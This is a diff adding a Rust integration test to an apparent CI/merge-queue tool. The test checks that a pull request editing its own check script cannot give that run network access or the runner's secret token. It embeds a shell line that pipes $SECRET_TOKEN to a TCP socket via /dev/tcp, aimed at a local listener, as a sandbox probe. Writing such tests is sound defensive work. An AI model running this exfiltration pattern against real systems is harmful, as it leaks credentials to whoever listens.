@@ -265,6 +265,82 @@ fn a_change_to_a_check_must_raise_revision_and_passes_both_versions() {
     );
 }
 
+#[test]
+fn a_change_to_the_checks_cannot_give_its_own_run_the_network_or_the_runner_s_secrets() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a local port");
+    let port = listener.local_addr().expect("an address").port();
+    let world = World::standard();
+    let ann = world.clone_as("ann");
+    let start = bay(
+        &ann,
+        "ann",
+        &["start", "widen the check", "--paths", ".bay/"],
+    );
+    let view = PathBuf::from(start.doc["detail"]["view"].as_str().expect("a view"));
+    let change = start.doc["change"].as_str().expect("a change").to_owned();
+    // The change's own check sends what it can to a listener here, and fails if it holds the
+    // runner's secret; its policy asks for both the network and the secret.
+    let grabbing = CHECK.replace(
+        "units=\"\"",
+        &format!(
+            "printf 'token=%s\\n' \"${{SECRET_TOKEN:-none}}\" | bash -c 'cat > /dev/tcp/127.0.0.1/{port}' 2>/dev/null\n\
+             units=\"\"\n\
+             [ -n \"$SECRET_TOKEN\" ] && units='{{\"id\":\"secret\",\"verdict\":\"product_failure\"}}'"
+        ),
+    );
+    write_program(&view, ".bay/check", &grabbing);
+    write(
+        &view,
+        ".bay/policy.toml",
+        &policy("network = true\nenv = [\"SECRET_TOKEN\"]\n")
+            .replace("revision = 1", "revision = 2"),
+    );
+    assert_eq!(bay(&view, "ann", &["merge"]).doc["decision"], "queued");
+    let pass = bay_with(
+        &world.admin,
+        "runner",
+        &["runner", "run", "--once"],
+        &[("SECRET_TOKEN", "hunter2")],
+    );
+    assert_eq!(pass.code, 0, "{pass:?}");
+    let status = bay(&view, "ann", &["status"]);
+    assert_eq!(
+        status.doc["decision"], "merged",
+        "its own run held no secret: {status:?}"
+    );
+    assert_eq!(world.merges_of(&change), 1);
+    listener.set_nonblocking(true).expect("non-blocking");
+    let reached = listener.accept().map(|(mut stream, _)| {
+        let mut sent = String::new();
+        std::io::Read::read_to_string(&mut stream, &mut sent).ok();
+        sent
+    });
+    assert!(
+        reached.is_err(),
+        "the change's own check reached the network: {reached:?}"
+    );
+    // Merged, main's policy grants both, so the next change's run of the check has them: the
+    // probe works, and only the change's own run was kept from them.
+    let bob = world.clone_as("bob");
+    let (next, view) = world.submit(&bob, "bob", "greet", "src/greeting.txt", "Hi\n");
+    bay_with(
+        &world.admin,
+        "runner",
+        &["runner", "run", "--once"],
+        &[("SECRET_TOKEN", "hunter2")],
+    );
+    let status = bay(&view, "bob", &["status"]);
+    assert_eq!(status.doc["reason"], "CHECK_FAILED", "{status:?}");
+    assert_eq!(world.merges_of(&next), 0);
+    let (mut stream, _) = listener
+        .accept()
+        .expect("main's check reached the listener");
+    stream.set_nonblocking(false).expect("blocking");
+    let mut sent = String::new();
+    std::io::Read::read_to_string(&mut stream, &mut sent).expect("read");
+    assert_eq!(sent, "token=hunter2\n");
+}
+
 /// A check with two units: `known` fails while `src/known-bug` exists, `new` while
 /// `src/new-bug` does.
 const TWO_UNITS: &str = r#"#!/bin/sh
